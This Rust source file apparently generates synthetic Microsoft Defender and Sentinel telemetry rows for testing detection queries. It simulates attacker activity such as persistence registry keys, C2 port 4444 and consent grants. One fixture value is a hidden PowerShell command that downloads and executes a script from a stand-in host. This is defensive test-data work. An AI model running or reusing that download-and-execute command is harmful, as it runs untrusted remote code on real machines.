//! The value of one column of one sample row: by column name from the row's entities, else by Kusto type.

use super::world::{Account, Alert, Device, Mail, Process, World};
use super::Rng;
use crate::types::{KqlColumn, KqlType};
use crate::values::format_datetime;
use serde_json::{json, Value};

/// Everything one row is about; each column takes its value from here, so the columns of a row agree.
pub struct Row<'w> {
    pub w: &'w World,
    pub table: &'w str,
    pub action_type: &'w str,
    pub focus: bool,
    pub dev: &'w Device,
    /// a second device (the other end of a logon or a lateral movement)
    pub other_dev: &'w Device,
    pub acct: &'w Account,
    /// a second account (a recipient, a target)
    pub other_acct: &'w Account,
    pub p: &'w Process,
    pub parent: &'w Process,
    pub remote_ip: String,
    pub remote_public: bool,
    pub ts: i64,
    pub i: usize,
    pub alert: &'w Alert,
    pub mail: &'w Mail,
    pub registry_key: &'static str,
    pub domain: &'static str,
}

/// A JSON string of anything string-like.
pub fn st(x: impl AsRef<str>) -> Value {
    Value::String(x.as_ref().to_string())
}

fn capitalized(s: &str) -> String {
    let mut c = s.chars();
    c.next().map(|f| f.to_uppercase().chain(c).collect()).unwrap_or_default()
}

pub const REGISTRY_KEYS: &[&str] = &[
    r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run",
    r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon",
    r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\Updater",
    r"HKEY_CURRENT_USER\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\RunMRU",
    r"HKEY_CURRENT_USER\SOFTWARE\Microsoft\Office\16.0\Common\Internet\Server Cache\https://files.example/share/",
];

fn registry_data(key: &str) -> &'static str {
    if key.ends_with("RunMRU") {
        r"powershell -w hidden -nop -c iwr https://cdn.contoso-update.example/a.ps1 | iex\1"
    } else if key.contains("Server Cache") {
        "1"
    } else {
        r"C:\ProgramData\upd.exe"
    }
}

/// The AdditionalFields bag of a row: the keys Defender writes for its ActionType.
fn additional_fields(r: &Row) -> Value {
    let at = r.action_type;
    let mut bag = json!({"Index": r.i});
    let extra = if at.starts_with("Antivirus") {
        json!({"ThreatName": "Trojan:Win32/Wacatac.B!ml", "WasRemediated": true, "ReportSource": "Realtime"})
    } else if at == "TamperingAttempt" {
        json!({"TamperingAction": "RegistryModification", "Status": "Blocked",
               "Target": r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender"})
    } else if at.starts_with("SmartScreen") {
        json!({"Experience": "Untrusted"})
    } else if at.starts_with("Amsi") {
        json!({"Description": "AMSI detected an obfuscated PowerShell script"})
    } else if at == "PowerShellCommand" {
        json!({"Command": "Invoke-WebRequest"})
    } else if at == "Group Membership changed" {
        json!({"TO.GROUP": "Domain Admins", "ACTOR.ACCOUNT": r.acct.name, "TARGET_OBJECT.USER": r.other_acct.name})
    } else if at == "Potential lateral movement path identified" {
        json!({"ACTOR.DEVICE": r.dev.fqdn(), "TARGET_OBJECT.DEVICE": r.other_dev.fqdn()})
    } else {
        json!({"Sample": true})
    };
    if let (Some(b), Value::Object(e)) = (bag.as_object_mut(), extra) {
        b.extend(e);
    }
    bag
}

/// A JSON value in the column's type: JSON text for a string column (Defender keeps many bags as strings),
/// the value itself for a dynamic one.
fn bag(c: &KqlColumn, v: Value) -> Value {
    match c.ty {
        KqlType::String => st(v.to_string()),
        _ => v,
    }
}

fn is_identity(table: &str) -> bool {
    table.starts_with("Identity")
}

/// A column's value from the row's entities, when its name is one we know.
pub fn by_name(rng: &mut Rng, r: &Row, c: &KqlColumn) -> Option<Value> {
    let (w, dev, acct, p, parent) = (r.w, r.dev, r.acct, r.p, r.parent);
    let v = match c.name.as_str() {
        "Timestamp" | "TimeGenerated" => st(format_datetime(r.ts)),
        "DeviceId" => st(&dev.id),
        "DeviceName" | "Computer" => st(dev.fqdn()),
        "TargetDeviceName" | "DestinationDeviceName" | "RemoteDeviceName" => st(r.other_dev.fqdn()),
        "DestinationIPAddress" => st(&r.other_dev.ip),
        "AadDeviceId" => st(&dev.aad),
        "ActionType" => st(r.action_type),
        "AccountName" | "InitiatingProcessAccountName" => st(&acct.name),
        "AccountDomain" | "InitiatingProcessAccountDomain" => st(&acct.domain),
        "AccountSid" | "InitiatingProcessAccountSid" => st(&acct.sid),
        "AccountUpn" | "InitiatingProcessAccountUpn" | "UserPrincipalName" | "AccountUPN" | "Caller" => st(&acct.upn),
        // OfficeActivity's UserId is the UPN; elsewhere (Graph activity, Entra) an object id
        "UserId" if r.table == "OfficeActivity" => st(&acct.upn),
        "AccountObjectId" | "InitiatingProcessAccountObjectId" | "UserId" | "UserKey" | "AccountId" => {
            st(&acct.object_id)
        }
        "AccountDisplayName" | "UserDisplayName" | "SenderDisplayName" => st(capitalized(&acct.name)),
        "TargetAccountUpn" => st(&r.other_acct.upn),
        "TargetAccountDisplayName" => st(capitalized(&r.other_acct.name)),
        "FileName" => st(p.file),
        "FolderPath" => st(format!("{}\\{}", p.folder, p.file)),
        "ProcessCommandLine" => st(&p.cmd),
        "SHA1" => st(&p.sha1),
        "SHA256" => st(&p.sha256),
        "MD5" => st(&p.md5),
        "FileSize" => json!(p.size),
        "ProcessId" => json!(1000 + rng.below(30000)),
        "InitiatingProcessFileName" => st(parent.file),
        "InitiatingProcessFolderPath" => st(format!("{}\\{}", parent.folder, parent.file)),
        "InitiatingProcessCommandLine" => st(&parent.cmd),
        "InitiatingProcessSHA1" => st(&parent.sha1),
        "InitiatingProcessSHA256" => st(&parent.sha256),
        "InitiatingProcessMD5" => st(&parent.md5),
        "InitiatingProcessId" | "InitiatingProcessParentId" => json!(1000 + rng.below(30000)),
        "InitiatingProcessParentFileName" => st(rng.pick(&["explorer.exe", "services.exe", "svchost.exe"])),
        "RemoteIP" | "IPAddress" | "ClientIP" | "SourceIP" | "CallerIpAddress" | "SenderIPv4" => st(&r.remote_ip),
        "LocalIP" | "DeviceIP" => st(&dev.ip),
        "PublicIP" => st(rng.pick(&w.public_ips)),
        "RemoteIPType" => st(if r.remote_public { "Public" } else { "Private" }),
        "LocalIPType" => st("Private"),
        // internal traffic is SMB, RDP, RPC and WinRM; the internet is web and the odd C2 port
        "RemotePort" if r.remote_public => json!(*rng.pick(&[443, 443, 80, 8080, 4444, 53])),
        "RemotePort" => json!(*rng.pick(&[445, 445, 3389, 135, 5985, 53])),
        "LocalPort" => json!(49152 + rng.below(16000)),
        "Port" | "DestinationPort" => json!(*rng.pick(&[88, 389, 445, 135])),
        "Protocol" if is_identity(r.table) => {
            st(if r.action_type.contains("LDAP") { "Ldap" } else { rng.pick(&["Kerberos", "Ntlm", "Ldap"]) })
        }
        "Protocol" => st(rng.pick(&["Tcp", "Udp"])),
        "RemoteUrl" | "Url" | "ObjectName" | "RequestUri"
            if r.action_type.contains("Url") || matches!(r.table, "UrlClickEvents" | "EmailUrlInfo") =>
        {
            st(format!("https://{}/invoice.html", r.domain))
        }
        "RequestUri" => st(format!("https://graph.microsoft.com/v1.0/users/{}/messages", acct.object_id)),
        "RemoteUrl" | "Url" | "UrlDomain" => st(r.domain),
        "LogonType" => st(rng.pick(&["Interactive", "RemoteInteractive", "Network", "Batch", "Service"])),
        "ReportId" => json!(1000 + r.i as i64),
        "RegistryKey" => st(r.registry_key),
        "RegistryValueName" => st(rng.pick(&["Updater", "DefaultPassword", "Shell", "ImagePath", "a"])),
        "RegistryValueData" => st(registry_data(r.registry_key)),
        "AlertId" => st(&r.alert.id),
        "Title" | "AlertName" => st(r.alert.title),
        "Category" if r.table.starts_with("Alert") => st(r.alert.category),
        "Categories" => bag(c, json!([r.alert.category])),
        "AttackTechniques" => bag(c, json!([r.alert.technique])),
        "Severity" | "AlertSeverity" => st(r.alert.severity),
        "ServiceSource" => st(rng.pick(&["Microsoft Defender for Endpoint", "Microsoft Defender for Identity"])),
        "DetectionSource" => st(rng.pick(&["EDR", "Antivirus", "Custom detection"])),
        "EntityType" => st(rng.pick(&["Machine", "User", "File", "Process", "Ip", "Url", "Mailbox"])),
        "EvidenceRole" => st(rng.pick(&["Impacted", "Related"])),
        "NetworkMessageId" => st(&r.mail.network_id),
        "InternetMessageId" => st(&r.mail.internet_id),
        "Subject" | "EmailSubject" => st(r.mail.subject),
        "EmailClusterId" => json!(r.mail.cluster),
        "EmailDirection" => st(rng.pick(&["Inbound", "Outbound", "Intra-org"])),
        "SenderFromAddress" | "SenderMailFromAddress" => st(&acct.upn),
        "SenderFromDomain" | "SenderMailFromDomain" => st("contoso.com"),
        "RecipientEmailAddress" => st(&r.other_acct.upn),
        "AttachmentCount" => json!(rng.below(3)),
        "UrlCount" => json!(rng.below(4)),
        "DeliveryAction" => st(rng.pick(&["Delivered", "Blocked", "Junked"])),
        "OperationName" | "ActivityDisplayName" | "Operation" if r.table == "OfficeActivity" => {
            st(rng.pick(&["MailItemsAccessed", "FileAccessed", "New-InboxRule", "UserLoggedIn", "Send"]))
        }
        "OperationName" | "ActivityDisplayName" => {
            st(rng.pick(&["Consent to application", "Add member to group", "Update user", "Reset password"]))
        }
        "OfficeWorkload" => st(rng.pick(&["Exchange", "SharePoint", "OneDrive", "AzureActiveDirectory"])),
        "OperationNameValue" => st(rng.pick(&[
            "MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE",
            "MICROSOFT.KEYVAULT/VAULTS/SECRETS/READ",
            "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE",
            "MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION",
        ])),
        "ResultType" if c.ty == KqlType::String => st(rng.pick(&["0", "0", "0", "0", "50126", "50053", "success"])),
        "ResultType" => json!(0),
        "Result" => st("success"),
        "InitiatedBy" => json!({"user": {"id": acct.object_id, "userPrincipalName": acct.upn,
                                         "displayName": capitalized(&acct.name), "ipAddress": r.remote_ip}}),
        "TargetResources" => json!([{"id": r.other_acct.object_id, "displayName": "Contoso Sync App",
            "type": "ServicePrincipal", "userPrincipalName": r.other_acct.upn,
            "modifiedProperties": [{"displayName": "ConsentAction.Permissions", "oldValue": null,
                                    "newValue": "Scope: Mail.Read offline_access"}]}]),
        "LocationDetails" => json!({"city": "Amsterdam", "state": "Noord-Holland", "countryOrRegion": "NL"}),
        "Location" | "CountryCode" => st(rng.pick(&["NL", "NL", "US", "DE"])),
        "DeviceDetail" => json!({"operatingSystem": "Windows 11", "browser": "Edge 120.0", "trustType": ""}),
        "Status" if c.ty == KqlType::Dynamic => json!({"errorCode": 0}),
        "AppDisplayName" => st(rng.pick(&["Office 365 Exchange Online", "Microsoft Teams", "Azure Portal"])),
        "ClientAppUsed" => st(rng.pick(&["Browser", "Mobile Apps and Desktop clients"])),
        "RiskState" => st("none"),
        "UserAgent" => st("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Edg/120.0"),
        "Application" if r.table == "CloudAppEvents" => {
            st(rng.pick(&["Microsoft Exchange Online", "Microsoft SharePoint Online", "Microsoft Teams"]))
        }
        "Application" if is_identity(r.table) => st("Active Directory"),
        "RawEventData" if r.table == "CloudAppEvents" => json!({
            "Operation": r.action_type, "UserId": acct.upn, "ClientIP": r.remote_ip,
            "OperationCount": 1 + rng.below(5),
            "Folders": [{"Path": "\\Inbox", "FolderItems": [{"InternetMessageId": r.mail.internet_id}]}]}),
        "AdditionalFields" => bag(c, additional_fields(r)),
        "IPAddresses" => bag(c, json!([{"IPAddress": dev.ip, "SubnetPrefix": 24, "AddressType": "Private"}])),
        "ConnectedNetworks" => {
            bag(c, json!([{"Name": "contoso.com", "Category": "Domain", "IsConnectedToInternet": true}]))
        }
        "LoggedOnUsers" => bag(c, json!([{"UserName": acct.name, "DomainName": "CONTOSO", "Sid": acct.sid}])),
        "NetworkAdapterStatus" => st("Up"),
        "OnboardingStatus" => st("Onboarded"),
        "OSPlatform" => st(if dev.name.starts_with("ws-") { "Windows11" } else { "WindowsServer2022" }),
        "DeviceType" if r.table == "DeviceInfo" => {
            st(if dev.name.starts_with("ws-") { "Workstation" } else { "Server" })
        }
        "QueryType" => st(rng.pick(&["AllUsers", "AllGroups", "AllComputers"])),
        "QueryTarget" => st("contoso.com"),
        "Query" => st("(&(objectCategory=person)(objectClass=user))"),
        "EdgeLabel" => st(rng.pick(&["has permissions to", "can authenticate to", "CanRemoteInteractiveLogonTo"])),
        "SourceNodeName" => st(capitalized(&acct.name)),
        "SourceNodeLabel" => st("user"),
        "TargetNodeName" => st(dev.fqdn()),
        "TargetNodeLabel" => st(if r.focus { "device" } else { "microsoft.keyvault/vaults" }),
        "EdgeProperties" => {
            json!({"rawData": {"permissions": {"roles": [{"name": "Owner", "id": r.other_acct.object_id}]}}})
        }
        "IsLocalAdmin" | "IsInitiatingProcessRemoteSession" => Value::Bool(rng.chance(20)),
        "SourceSystem" => st(""),
        _ => return None,
    };
    Some(match (c.ty, v) {
        // a column typed other than the pool value (e.g. ProcessId long) keeps the pool's JSON kind
        (KqlType::String, Value::Number(x)) => st(x.to_string()),
        (_, v) => v,
    })
}

/// A column no name rule knows: a plausible value of its type (Defender leaves most strings empty).
pub fn by_type(rng: &mut Rng, r: &Row, c: &KqlColumn) -> Value {
    match c.ty {
        KqlType::Bool => Value::Bool(rng.chance(30)),
        KqlType::Int | KqlType::Long => json!(rng.below(100)),
        KqlType::Real | KqlType::Decimal => json!((rng.below(10_000) as f64) / 100.0),
        KqlType::Datetime => st(format_datetime(r.ts)),
        KqlType::Timespan => st("00:00:01"),
        KqlType::Guid => st(rng.guid()),
        KqlType::Dynamic => json!({}),
        KqlType::String => st(""),
    }
}
